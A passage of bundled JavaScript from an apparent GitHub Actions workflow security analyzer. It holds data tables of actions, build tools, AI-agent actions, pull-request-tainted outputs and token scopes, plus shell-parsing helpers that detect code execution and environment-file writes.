  { action: "garygrossgarten/github-action-ssh", inputs: ["command"], language: "shell", note: "runs `command:` on a remote host over SSH" }
];
var EXECUTING_ACTIONS = [
  { action: "pre-commit/action", note: "pre-commit hooks from the tree" },
  { action: "docker/build-push-action", note: "the Dockerfile from the tree" },
  { action: "goreleaser/goreleaser-action", note: "the goreleaser build" },
  { action: "cypress-io/github-action", note: "npm install and the test scripts" },
  { action: "bahmutov/npm-install", note: "npm install" },
  { action: "borales/actions-yarn", note: "yarn scripts" },
  { action: "github/codeql-action/autobuild", note: "the project build" },
  { action: "changesets/action", note: "package scripts" },
  { action: "php-actions/composer", note: "composer scripts" },
  { action: "gradle/gradle-build-action", note: "the Gradle build" },
  { action: "coactions/setup-xvfb", note: "a command from the tree" },
  { action: "nick-fields/retry", note: "a command" },
  { action: "nick-invision/retry", note: "a command" },
  { action: "wandalen/wretry.action", note: "a command" },
  { action: "actions/github-script", note: "a script (with require() of files from the tree)" }
];
var INSTALLING_SETUP_ACTIONS = [
  { action: "ruby/setup-ruby", input: "bundler-cache", when: /^true$/, note: "runs bundle install with `bundler-cache: true`" },
  { action: "pnpm/action-setup", input: "run_install", when: /^(true|- |\[)/, note: "runs pnpm install with `run_install:`" },
  { action: "actions/setup-python", input: "pip-install", when: /^[\s\S]/, note: "runs pip install with `pip-install:`" }
];
var BUILD_TOOLS = [
  { tool: "make", note: "reads the Makefile", source: "https://www.gnu.org/software/make/manual/make.html" },
  { tool: "gmake", note: "GNU make", source: "https://www.gnu.org/software/make/manual/make.html" },
  { tool: "cmake", note: "runs CMakeLists.txt", source: "https://cmake.org/cmake/help/latest/" },
  { tool: "ninja", note: "runs the build file", source: "https://ninja-build.org/manual.html" },
  { tool: "meson", note: "runs meson.build", source: "https://mesonbuild.com/" },
  { tool: "bazel", note: "runs BUILD rules", source: "https://bazel.build/" },
  { tool: "bazelisk", note: "runs Bazel", source: "https://github.com/bazelbuild/bazelisk" },
  { tool: "gradle", note: "runs the build scripts", source: "https://docs.gradle.org/current/userguide/userguide.html" },
  { tool: "mvn", note: "runs the POM plugins", source: "https://maven.apache.org/" },
  { tool: "ant", note: "runs build.xml", source: "https://ant.apache.org/manual/" },
  { tool: "sbt", note: "runs build.sbt", source: "https://www.scala-sbt.org/" },
  { tool: "rake", note: "runs the Rakefile", source: "https://ruby.github.io/rake/" },
  { tool: "tox", note: "runs tox.ini and installs the package", source: "https://tox.wiki/" },
  { tool: "nox", note: "runs noxfile.py", source: "https://nox.thea.codes/" },
  { tool: "pytest", note: "imports the tests and conftest.py", source: "https://docs.pytest.org/" },
  { tool: "jest", note: "runs the tests and its config", source: "https://jestjs.io/" },
  { tool: "vitest", note: "runs the tests and its config", source: "https://vitest.dev/" },
  { tool: "mocha", note: "runs the tests", source: "https://mochajs.org/" },
  { tool: "webpack", note: "runs webpack.config.js", source: "https://webpack.js.org/" },
  { tool: "vite", note: "runs vite.config.*", source: "https://vite.dev/" },
  { tool: "rollup", note: "runs rollup.config.*", source: "https://rollupjs.org/" },
  { tool: "tsx", note: "runs a TypeScript file", source: "https://tsx.is/" },
  { tool: "ts-node", note: "runs a TypeScript file", source: "https://typestrong.org/ts-node/" },
  { tool: "deno", note: "runs a script", source: "https://docs.deno.com/runtime/" },
  { tool: "node", note: "runs a script", source: "https://nodejs.org/api/cli.html" },
  { tool: "ruby", note: "runs a script", source: "https://www.ruby-lang.org/en/documentation/" },
  { tool: "perl", note: "runs a script", source: "https://perldoc.perl.org/perlrun" },
  { tool: "php", note: "runs a script", source: "https://www.php.net/manual/en/features.commandline.php" },
  { tool: "composer", note: "runs composer.json scripts", source: "https://getcomposer.org/doc/articles/scripts.md" },
  { tool: "msbuild", note: "runs the project files", source: "https://learn.microsoft.com/en-us/visualstudio/msbuild/msbuild" },
  { tool: "pre-commit", note: "runs the configured hooks", source: "https://pre-commit.com/" },
  { tool: "eslint", note: "loads its config and plugins", source: "https://eslint.org/docs/latest/use/configure/" },
  { tool: "prettier", note: "loads its config and plugins", source: "https://prettier.io/docs/configuration" },
  { tool: "jake", note: "runs the Jakefile", source: "https://jakejs.com/" },
  { tool: "gulp", note: "runs the gulpfile", source: "https://gulpjs.com/" },
  { tool: "grunt", note: "runs the Gruntfile", source: "https://gruntjs.com/" },
  { tool: "lerna", note: "runs package scripts", source: "https://lerna.js.org/" },
  { tool: "nx", note: "runs project targets", source: "https://nx.dev/" },
  { tool: "turbo", note: "runs package scripts", source: "https://turborepo.com/" },
  { tool: "poetry", note: "installs the project and runs its build", source: "https://python-poetry.org/docs/cli/" },
  { tool: "hatch", note: "runs environments and build hooks", source: "https://hatch.pypa.io/" },
  { tool: "pdm", note: "runs scripts and builds", source: "https://pdm-project.org/" },
  { tool: "uv", note: "runs and builds the project", source: "https://docs.astral.sh/uv/" },
  { tool: "pipenv", note: "installs and runs scripts", source: "https://pipenv.pypa.io/" },
  { tool: "just", note: "runs the justfile", source: "https://just.systems/man/en/" },
  { tool: "task", note: "runs Taskfile.yml", source: "https://taskfile.dev/" },
  { tool: "invoke", note: "runs tasks.py", source: "https://www.pyinvoke.org/" },
  { tool: "scons", note: "runs SConstruct", source: "https://scons.org/" },
  { tool: "xcodebuild", note: "runs the project build phases", source: "https://developer.apple.com/documentation/xcode" },
  { tool: "swift", note: "builds and runs the package (Package.swift)", source: "https://www.swift.org/documentation/package-manager/" },
  { tool: "mix", note: "runs mix.exs", source: "https://hexdocs.pm/mix/Mix.html" },
  { tool: "rebar3", note: "runs rebar.config", source: "https://rebar3.org/" },
  { tool: "stack", note: "builds the Haskell project", source: "https://docs.haskellstack.org/" },
  { tool: "cabal", note: "builds the Haskell project (Setup.hs)", source: "https://cabal.readthedocs.io/" },
  { tool: "dune", note: "builds the OCaml project", source: "https://dune.build/" },
  { tool: "zig", note: "runs build.zig", source: "https://ziglang.org/documentation/master/" }
];

// src/workflow/data/ai-agents.ts
var AI_AGENT_ACTIONS = [
  {
    action: "anthropics/claude-code-action",
    inputs: ["prompt", "direct_prompt", "override_prompt", "custom_instructions"],
    note: "Claude Code with tools, on issues and pull requests"
  },
  { action: "anthropics/claude-code-base-action", inputs: ["prompt", "system_prompt", "append_system_prompt"], note: "Claude Code base action" },
  { action: "google-github-actions/run-gemini-cli", inputs: ["prompt"], note: "Gemini CLI with tools" },
  { action: "openai/codex-action", inputs: ["prompt"], note: "OpenAI Codex CLI" },
  { action: "actions/ai-inference", inputs: ["prompt", "system-prompt"], note: "GitHub Models inference" }
];

// src/workflow/data/tainted-outputs.ts
var TAINTED_OUTPUT_ACTIONS = [
  { action: "tj-actions/changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "step-security/changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "jitterbit/get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "ana06/get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "lots0logs/gh-action-get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "trilom/file-changes-action", outputs: "*", note: "file names changed by the pull request" },
  // `list-files: json` writes the names as a JSON array (JSON.stringify): a literal, not free text.
  { action: "dorny/paths-filter", outputs: /_files$/, note: "file names changed by the pull request", json: { input: "list-files", value: "json" } },
  { action: "xt0rted/pull-request-comment-branch", outputs: /^head_ref$/, note: "the pull request head branch" },
  { action: "gotson/pull-request-comment-branch", outputs: /^head_ref$/, note: "the pull request head branch" },
  { action: "potiuk/get-workflow-origin", outputs: /branch|label|title/i, note: "the triggering pull request" },
  { action: "peter-evans/find-comment", outputs: /^comment-body$/, note: "a comment body" },
  { action: "8bitjonny/gh-get-current-pr", outputs: /^pr_(title|body|branch)$/, note: "the pull request title, body or branch" }
];

// src/workflow/data/artifacts.ts
var ARTIFACT_UPLOADERS = [
  { action: "actions/upload-artifact", note: "uploads a workflow artifact" },
  { action: "actions/upload-pages-artifact", note: "uploads the GitHub Pages artifact" },
  { action: "actions/cache/save", note: "saves a folder to the Actions cache" }
];
var ARTIFACT_DOWNLOADERS = [
  { action: "actions/download-artifact", note: "downloads artifacts (of another run with `run-id:`)" },
  { action: "dawidd6/action-download-artifact", note: "downloads another workflow run's artifacts" },
  { action: "aochmann/actions-download-artifact", note: "downloads another workflow run's artifacts" },
  { action: "bettermarks/action-artifact-download", note: "downloads another workflow run's artifacts" }
];

// src/workflow/data/git-pushes.ts
var GIT_PUSHING_ACTIONS = [
  { action: "stefanzweifel/git-auto-commit-action", note: "commits and pushes changed files" },
  { action: "endbug/add-and-commit", note: "commits and pushes changed files" },
  { action: "ad-m/github-push-action", note: "pushes the branch" },
  { action: "changesets/action", note: "pushes the version branch and tags" },
  { action: "cycjimmy/semantic-release-action", note: "pushes release commits and tags" }
];
var GIT_PUSHING_COMMANDS = [
  { command: /\bsemantic-release\b/, note: "pushes tags (and release commits with plugins)", source: "https://semantic-release.gitbook.io/semantic-release/" },
  {
    command: /\blerna\s+(?:publish|version)\b/,
    note: "commits version bumps and pushes tags",
    source: "https://lerna.js.org/docs/features/version-and-publish"
  }
];

// src/workflow/data/token-scopes.ts
var TOKEN_SCOPE_ACTIONS = [
  { action: "softprops/action-gh-release", scopes: ["contents"], note: "needs contents" },
  { action: "ncipollo/release-action", scopes: ["contents"], note: "needs contents" },
  { action: "actions/create-release", scopes: ["contents"], note: "needs contents" },
  { action: "actions/upload-release-asset", scopes: ["contents"], note: "needs contents" },
  { action: "svenstaro/upload-release-action", scopes: ["contents"], note: "needs contents" },
  { action: "stefanzweifel/git-auto-commit-action", scopes: ["contents"], note: "needs contents" },
  { action: "endbug/add-and-commit", scopes: ["contents"], note: "needs contents" },
  { action: "ad-m/github-push-action", scopes: ["contents"], note: "needs contents" },
  { action: "jamesives/github-pages-deploy-action", scopes: ["contents"], note: "needs contents" },
  { action: "peaceiris/actions-gh-pages", scopes: ["contents"], note: "needs contents" },
  { action: "goreleaser/goreleaser-action", scopes: ["contents", "packages", "id-token"], note: "needs contents, packages, id-token" },
  { action: "peter-evans/create-pull-request", scopes: ["contents", "pull-requests"], note: "needs contents, pull-requests" },
  { action: "googleapis/release-please-action", scopes: ["contents", "pull-requests", "issues"], note: "needs contents, pull-requests, issues" },
  { action: "google-github-actions/release-please-action", scopes: ["contents", "pull-requests", "issues"], note: "needs contents, pull-requests, issues" },
  { action: "release-drafter/release-drafter", scopes: ["contents", "pull-requests"], note: "needs contents, pull-requests" },
  { action: "changesets/action", scopes: ["contents", "pull-requests", "id-token"], note: "needs contents, pull-requests, id-token" },
  {
    action: "cycjimmy/semantic-release-action",
    scopes: ["contents", "issues", "pull-requests", "id-token"],
    note: "needs contents, issues, pull-requests, id-token"
  },
  { action: "actions/deploy-pages", scopes: ["pages", "id-token"], note: "needs pages, id-token" },
  { action: "actions/attest-build-provenance", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/attest", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/attest-sbom", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/labeler", scopes: ["pull-requests", "issues"], note: "needs pull-requests, issues" },
  { action: "actions/stale", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "actions/first-interaction", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "peter-evans/create-or-update-comment", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "marocchino/sticky-pull-request-comment", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "thollander/actions-comment-pull-request", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "mshick/add-pr-comment", scopes: ["pull-requests", "issues"], note: "needs pull-requests, issues" },
  { action: "actions/dependency-review-action", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "docker/login-action", scopes: ["packages"], note: "needs packages" },
  { action: "docker/build-push-action", scopes: ["packages", "id-token"], note: "needs packages, id-token" },
  { action: "pypa/gh-action-pypi-publish", scopes: ["id-token"], note: "needs id-token" },
  { action: "aws-actions/configure-aws-credentials", scopes: ["id-token"], note: "needs id-token" },
  { action: "google-github-actions/auth", scopes: ["id-token"], note: "needs id-token" },
  { action: "azure/login", scopes: ["id-token"], note: "needs id-token" },
  { action: "hashicorp/vault-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "rust-lang/crates-io-auth-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "octo-sts/action", scopes: ["id-token"], note: "needs id-token" },
  { action: "sigstore/cosign-installer", scopes: ["id-token"], note: "needs id-token" },
  { action: "sigstore/gh-action-sigstore-python", scopes: ["id-token"], note: "needs id-token" },
  { action: "codecov/codecov-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "ossf/scorecard-action", scopes: ["security-events", "id-token"], note: "needs security-events, id-token" },
  { action: "github/codeql-action", scopes: ["security-events", "actions"], note: "needs security-events, actions" },
  { action: "zizmorcore/zizmor-action", scopes: ["security-events"], note: "needs security-events" },
  { action: "dorny/test-reporter", scopes: ["checks"], note: "needs checks" },
  { action: "enricomi/publish-unit-test-result-action", scopes: ["checks", "pull-requests"], note: "needs checks, pull-requests" },
  { action: "mikepenz/action-junit-report", scopes: ["checks"], note: "needs checks" },
  { action: "actions/upload-pages-artifact", scopes: [], note: "needs no write scope (takes the token read-only)" },
  { action: "actions/configure-pages", scopes: ["pages"], note: "needs pages" }
];
var TOKENLESS_ACTIONS = [
  { action: "actions/checkout", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/setup-*", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache/restore", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache/save", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/upload-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/download-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/upload-pages-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-buildx-action", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-qemu-action", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/metadata-action", note: "sets up a tool or moves files; no token writes" },
  { action: "pnpm/action-setup", note: "sets up a tool or moves files; no token writes" },
  { action: "oven-sh/setup-bun", note: "sets up a tool or moves files; no token writes" },
  { action: "astral-sh/setup-uv", note: "sets up a tool or moves files; no token writes" },
  { action: "dtolnay/rust-toolchain", note: "sets up a tool or moves files; no token writes" },
  { action: "swatinem/rust-cache", note: "sets up a tool or moves files; no token writes" },
  { action: "ruby/setup-ruby", note: "sets up a tool or moves files; no token writes" },
  { action: "hashicorp/setup-terraform", note: "sets up a tool or moves files; no token writes" },
  { action: "jdx/mise-action", note: "sets up a tool or moves files; no token writes" },
  { action: "denoland/setup-deno", note: "sets up a tool or moves files; no token writes" },
  { action: "subosito/flutter-action", note: "sets up a tool or moves files; no token writes" },
  { action: "shivammathur/setup-php", note: "sets up a tool or moves files; no token writes" },
  { action: "erlef/setup-beam", note: "sets up a tool or moves files; no token writes" },
  { action: "mlugg/setup-zig", note: "sets up a tool or moves files; no token writes" },
  { action: "taiki-e/install-action", note: "sets up a tool or moves files; no token writes" },
  { action: "step-security/harden-runner", note: "sets up a tool or moves files; no token writes" },
  { action: "actions-rs/toolchain", note: "sets up a tool or moves files; no token writes" },
  { action: "actions-rs/cargo", note: "sets up a tool or moves files; no token writes" },
  { action: "golangci/golangci-lint-action", note: "sets up a tool or moves files; no token writes" },
  { action: "extractions/setup-just", note: "sets up a tool or moves files; no token writes" },
  { action: "arduino/setup-protoc", note: "sets up a tool or moves files; no token writes" },
  { action: "bufbuild/buf-setup-action", note: "sets up a tool or moves files; no token writes" },
  { action: "crazy-max/ghaction-setup-docker", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/actions/setup-gradle", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/actions/wrapper-validation", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/wrapper-validation-action", note: "sets up a tool or moves files; no token writes" },
  { action: "haskell-actions/setup", note: "sets up a tool or moves files; no token writes" },
  { action: "msys2/setup-msys2", note: "sets up a tool or moves files; no token writes" },
  { action: "ilammy/msvc-dev-cmd", note: "sets up a tool or moves files; no token writes" },
  { action: "microsoft/setup-msbuild", note: "sets up a tool or moves files; no token writes" },
  { action: "nuget/setup-nuget", note: "sets up a tool or moves files; no token writes" },
  { action: "conda-incubator/setup-miniconda", note: "sets up a tool or moves files; no token writes" },
  { action: "mamba-org/setup-micromamba", note: "sets up a tool or moves files; no token writes" },
  { action: "browser-actions/*", note: "sets up a tool or moves files; no token writes" },
  { action: "nick-fields/retry", note: "sets up a tool or moves files; no token writes" },
  { action: "pre-commit/action", note: "sets up a tool or moves files; no token writes" },
  { action: "dorny/paths-filter", note: "sets up a tool or moves files; no token writes" },
  { action: "tj-actions/changed-files", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-docker-action", note: "sets up a tool or moves files; no token writes" },
  { action: "azure/setup-*", note: "sets up a tool or moves files; no token writes" },
  { action: "cachix/install-nix-action", note: "sets up a tool or moves files; no token writes" },
  { action: "determinatesystems/*", note: "sets up a tool or moves files; no token writes" },
  { action: "coursier/setup-action", note: "sets up a tool or moves files; no token writes" },
  { action: "sbt/setup-sbt", note: "sets up a tool or moves files; no token writes" },
  { action: "julia-actions/*", note: "sets up a tool or moves files; no token writes" },
  { action: "r-lib/actions/*", note: "sets up a tool or moves files; no token writes" },
  { action: "typos-cli/typos", note: "sets up a tool or moves files; no token writes" },
  { action: "crate-ci/typos", note: "sets up a tool or moves files; no token writes" },
  { action: "ludeeus/action-shellcheck", note: "sets up a tool or moves files; no token writes" },
  { action: "hadolint/hadolint-action", note: "sets up a tool or moves files; no token writes" },
  { action: "aquasecurity/setup-trivy", note: "sets up a tool or moves files; no token writes" },
  { action: "anchore/sbom-action/download-syft", note: "sets up a tool or moves files; no token writes" }
];
var TOKEN_SCOPE_COMMANDS = [
  { command: /\bgit\s+push\b/, scopes: ["contents"], note: "pushes with the checkout credentials", source: "https://git-scm.com/docs/git-push" },
  { command: /\bgh\s+release\b/, scopes: ["contents"], note: "creates and edits releases", source: "https://cli.github.com/manual/gh_release" },
  {
    command: /\bgh\s+(pr|issue)\s+comment\b/,
    scopes: ["pull-requests", "issues"],
    note: "pull request comments are issue comments: either scope can be what the job relies on",
    source: "https://cli.github.com/manual/gh_pr_comment"
  },
  {
    command: /\bgh\s+pr\s+(create|merge|edit|review|close|reopen|ready)\b/,
    scopes: ["pull-requests", "contents"],
    note: "writes pull requests (merging writes contents)",
    source: "https://cli.github.com/manual/gh_pr"
  },
  { command: /\bgh\s+pr\b/, scopes: [], note: "other pull request commands read", source: "https://cli.github.com/manual/gh_pr" },
  {
    command: /\bgh\s+issue\s+(create|edit|close|reopen|transfer|lock|unlock|pin|delete)\b/,
    scopes: ["issues", "pull-requests"],
    note: "writes issues",
    source: "https://cli.github.com/manual/gh_issue"
  },
  { command: /\bgh\s+issue\b/, scopes: [], note: "other issue commands read", source: "https://cli.github.com/manual/gh_issue" },
  { command: /\bgh\s+label\b/, scopes: ["issues"], note: "writes labels", source: "https://cli.github.com/manual/gh_label" },
  {
    command: /\bgh\s+(workflow\s+run|run\s+(rerun|cancel|delete))\b/,
    scopes: ["actions"],
    note: "starts, reruns, cancels or deletes workflow runs",
    source: "https://cli.github.com/manual/gh_workflow_run"
  },
  { command: /\bgh\s+cache\s+delete\b/, scopes: ["actions"], note: "deletes Actions caches", source: "https://cli.github.com/manual/gh_cache_delete" },
  { command: /\bgh\s+attestation\s+verify\b/, scopes: [], note: "reads attestations", source: "https://cli.github.com/manual/gh_attestation_verify" },
  {
    command: /\bgh\s+(api|secret|variable|repo|project|gist|ruleset)\b/,
    scopes: "unknown",
    note: "arbitrary endpoints",
    source: "https://cli.github.com/manual/gh_api"
  },
  {
    command: /\bdocker\s+push\b|ghcr\.io|docker\.pkg\.github\.com|--push\b/,
    scopes: ["packages"],
    note: "pushes to GitHub Packages",
    source: "https://docs.github.com/en/packages/working-with-a-github-packages-registry/working-with-the-container-registry"
  },
  {
    command: /\b(npm|pnpm|yarn)\s+(npm\s+)?publish\b/,
    scopes: ["packages", "id-token"],
    note: "publishes (GitHub Packages, or npm with provenance)",
    source: "https://docs.npmjs.com/generating-provenance-statements"
  },
  {
    command: /\bcosign\s+(sign|attest)\b|ACTIONS_ID_TOKEN_REQUEST|\bgetIDToken\b|\bsigstore\b/,
    scopes: ["id-token"],
    note: "keyless signing with the OIDC token",
    source: "https://docs.sigstore.dev/cosign/signing/overview/"
  },
  {
    command: /\bsemantic-release\b/,
    scopes: ["contents", "issues", "pull-requests", "id-token"],
    note: "tags, releases, comments on issues and pull requests, publishes",
    source: "https://semantic-release.gitbook.io/semantic-release/recipes/ci-configurations/github-actions"
  },
  {
    command: /\b(twine|uv|poetry|hatch|flit|pdm)\s+(upload|publish)\b|\bcargo\s+publish\b|\bgem\s+push\b/,
    scopes: ["id-token"],
    note: "registry uploads (trusted publishing)",
    source: "https://docs.pypi.org/trusted-publishers/"
  },
  {
    command: /api\.github\.com|GITHUB_TOKEN|GH_TOKEN|github\.token/,
    scopes: "any-use",
    note: "the token used by something not recognised",
    source: "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication"
  }
];

// src/workflow/data/pinning.ts
var TAG_PINNED_WORKFLOWS = [
  {
    action: "slsa-framework/slsa-github-generator/.github/workflows/*",
    ref: /^v\d+\.\d+\.\d+$/,
    note: "the SLSA builders verify they were called at a vX.Y.Z tag",
    source: "https://github.com/slsa-framework/slsa-github-generator#referencing-slsa-builders-and-generators"
  }
];
var GITHUB_ACTION_OWNERS = [
  { owner: "actions", note: "GitHub's official actions", source: "https://github.com/actions" },
  { owner: "github", note: "actions published by GitHub (CodeQL and others)", source: "https://github.com/github" }
];

// src/workflow/shell.ts
function memo(compute) {
  const cache = /* @__PURE__ */ new Map();
  return (script) => {
    let value = cache.get(script);
    if (value === void 0) {
      value = compute(script);
      if (cache.size >= 2e4) cache.clear();
      cache.set(script, value);
    }
    return value;
  };
}
var commands = memo(splitCommands);
function splitCommands(script) {
  const out = [];
  let start = 0;
  let quote = null;
  const push = (end) => {
    const raw = script.slice(start, end);
    const lead = raw.length - raw.trimStart().length;
    const text = raw.trim();
    if (text) out.push({ text, start: start + lead, end: start + lead + text.length });
  };
  for (let i = 0; i < script.length; i += 1) {
    const c = script[i];
    if (quote) {
      if (c === "\\" && quote === '"') i += 1;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === "\\") {
      i += 1;
      continue;
    }
    if (c === "'" || c === '"') {
      quote = c;
      continue;
    }
    if (c === "#" && (i === 0 || /\s/.test(script[i - 1]))) {
      push(i);
      const newline = script.indexOf("\n", i);
      i = newline === -1 ? script.length : newline;
      start = i + 1;
      continue;
    }
    if (c === "\n" || c === ";" || c === "|" || c === "&") {
      push(i);
      if ((c === "|" || c === "&") && script[i + 1] === c) i += 1;
      start = i + 1;
    }
  }
  push(script.length);
  return out;
}
function words(text) {
  const out = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let c = text.charCodeAt(i);
    if (c === 32 || c === 9 || c === 10 || c === 13) {
      i += 1;
      continue;
    }
    const start = i;
    let word = "";
    let plainFrom = i;
    while (i < n) {
      c = text.charCodeAt(i);
      if (c === 32 || c === 9 || c === 10 || c === 13) break;
      if (c === 34 || c === 39) {
        word += text.slice(plainFrom, i);
        let close = text.indexOf(c === 34 ? '"' : "'", i + 1);
        while (c === 34 && close > 0 && text.charCodeAt(close - 1) === 92) close = text.indexOf('"', close + 1);
        const end = close === -1 ? n : close;
        word += text.slice(i + 1, end);
        i = close === -1 ? n : close + 1;
        plainFrom = i;
        continue;
      }
      i += 1;
    }
    word += text.slice(plainFrom, i);
    out.push({ word, start });
  }
  return out;
}
function commandWords(text) {
  const all = words(text);
  let i = 0;
  while (i < all.length) {
    const word = all[i].word;
    const substitution = /^([A-Za-z_][A-Za-z0-9_]*=\$\()([^)]+)(\)?)$/.exec(word);
    if (substitution) return [{ word: substitution[2], start: all[i].start + substitution[1].length }, ...all.slice(i + 1)];
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(word) || ["sudo", "env", "time", "exec", "nohup", "command", "then", "do", "else", "{", "(", "!"].includes(word)) i += 1;
    else if (word === "sudo" || /^-/.test(word)) i += 1;
    else break;
  }
  return all.slice(i);
}
var SCRIPT_RUNNERS = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "source", ".", "pwsh", "powershell"]);
var scriptCalls = memo(findScriptCalls);
function findScriptCalls(script) {
  const out = [];
  for (const command of commands(script)) {
    const list = commandWords(command.text);
    const first = list[0];
    if (!first) continue;
    let target2;
    if (SCRIPT_RUNNERS.has(first.word)) target2 = list.slice(1).find((w) => !w.word.startsWith("-"));
    else if (/^\.{1,2}\//.test(first.word)) target2 = first;
    if (!target2) continue;
    const path14 = target2.word;
    if (!/^[\w./-]+$/.test(path14) || path14.includes("..") && !path14.startsWith("./")) continue;
    if (!/\.(sh|bash|ps1)$/.test(path14) && !/^\.\//.test(path14)) continue;
    out.push({ path: path14, start: command.start + target2.start, end: command.start + target2.start + target2.word.length });
  }
  return out;
}
var NPM_LIKE = /* @__PURE__ */ new Set(["npm", "yarn", "pnpm", "bun"]);
var NPM_SAFE = /* @__PURE__ */ new Set([
  "--version",
  "-v",
  "version",
  "config",
  "whoami",
  "view",
  "info",
  "help",
  "login",
  "logout",
  "set",
  "cache",
  "ls",
  "list",
  "outdated",
  "audit",
  "pack",
  "publish"
]);
var ALWAYS_EXEC = new Set(BUILD_TOOLS.map((entry2) => entry2.tool));
var codeExecutions = memo(findCodeExecutions);
function findCodeExecutions(script) {
  const out = [];
  for (const command of commands(script)) {
    const list = commandWords(command.text);
    const first = list[0];
    if (!first) continue;
    const name = first.word.replace(/^.*\//, "");
    const second = list[1]?.word ?? "";
    let tool = null;
    if (/^\.{1,2}\//.test(first.word)) tool = first.word;
    else if (NPM_LIKE.has(name)) {
      if (!NPM_SAFE.has(second) && !(name === "npm" && second === "ci" && /--ignore-scripts/.test(command.text))) tool = `${name}${second ? ` ${second}` : ""}`;
      if (/--ignore-scripts/.test(command.text) && ["install", "i", "ci", "add"].includes(second)) tool = null;
    } else if (name === "npx" || name === "pnpx" || name === "bunx") tool = `${name} ${second}`.trim();
    else if (ALWAYS_EXEC.has(name)) tool = name;
    else if (name === "gradlew" || name === "mvnw") tool = name;
    else if (/^pip[0-9.]*$/.test(name) || /^python[0-9.]*$/.test(name) && second === "-m" && /^pip/.test(list[2]?.word ?? "")) {
      const rest = list.slice(name.startsWith("pip") ? 1 : 3).map((w) => w.word);
      if (rest[0] === "install" && rest.some((w) => w === "." || w.startsWith("./") || w === "-e" || w === "--editable" || w === "-r" || w.startsWith("-r") || w === "--requirement"))
        tool = `${name} install`;
    } else if (/^python[0-9.]*$/.test(name) || name === "py") {
      const target2 = list.slice(1).find((w) => !w.word.startsWith("-"));
      if (second === "-m" && list[2] && !/^(pip|venv|json\.tool|http\.server)$/.test(list[2].word)) tool = `${name} -m ${list[2].word}`;
      else if (target2 && /\.py$/.test(target2.word)) tool = `${name} ${target2.word}`;
    } else if (name === "cargo" && ["build", "test", "run", "check", "clippy", "bench", "doc", "install"].includes(second)) {
      if (!(second === "install" && !list.some((w) => w.word === "--path"))) tool = `cargo ${second}`;
    } else if (name === "go" && ["generate", "run", "test", "build", "install", "vet"].includes(second)) tool = `go ${second}`;
    else if ((name === "docker" || name === "podman" || name === "buildah") && (second === "build" || second === "buildx" || second === "compose"))
      tool = `${name} ${second}`;
    else if (name === "docker-compose") tool = name;
    else if (name === "bundle" && ["install", "exec"].includes(second)) tool = `bundle ${second}`;
    else if (name === "dotnet" && ["build", "test", "run", "restore", "pack", "publish", "msbuild"].includes(second)) tool = `dotnet ${second}`;
    else if (SCRIPT_RUNNERS.has(name) && list[1] && !list[1].word.startsWith("-") && /^[\w./-]+$/.test(list[1].word)) tool = `${name} ${list[1].word}`;
    if (tool) out.push({ tool, start: command.start + first.start, end: command.start + first.start + first.word.length });
  }
  return out;
}
var ENV_FILE_PATTERN = /(?:\$\{?|\$env:|%|env\.)(GITHUB_(?:ENV|PATH|OUTPUT|STEP_SUMMARY|STATE))\b/i;
var envFileWrites = memo(findEnvFileWrites);
function findEnvFileWrites(script) {
  const out = [];
  let lineStart = 0;
  for (let i = 0; i <= script.length; i += 1) {
    if (i < script.length && (script[i] !== "\n" || script[i - 1] === "\\" || script[i - 1] === "`")) continue;
    const raw = script.slice(lineStart, i);
    const lead = raw.length - raw.trimStart().length;
    const text = raw.trim();
    const start = lineStart + lead;
    lineStart = i + 1;
    if (!text || text.startsWith("#")) continue;
    const match2 = ENV_FILE_PATTERN.exec(text);
    if (!match2) continue;
    const before = text.slice(0, match2.index);
    const isWrite = />>?\s*["']?$/.test(before) || /\btee\b[^|]*$/.test(before) || /\b(Out-File|Add-Content|Set-Content)\b/i.test(text) || /\[IO\.File\]::Append/i.test(text);
    if (!isWrite) continue;
    out.push({ file: match2[1].toUpperCase(), command: { text, start, end: start + text.length } });
  }
  return out;
}
function expandedVariables(text) {
  const out = [];
  for (const match2 of text.matchAll(
    /\$\{([A-Za-z_][A-Za-z0-9_]*)[^}]*\}|\$env:([A-Za-z_][A-Za-z0-9_]*)|\$([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/g
  )) {
    const name = match2[1] ?? match2[2] ?? match2[3] ?? match2[4];
    out.push({ name, start: match2.index, end: match2.index + match2[0].length });
  }
  return out;
}
function logicalLines(text) {
  const lines2 = [];
  let pieces = [];
  let current = "";
  let pieceStart = 0;
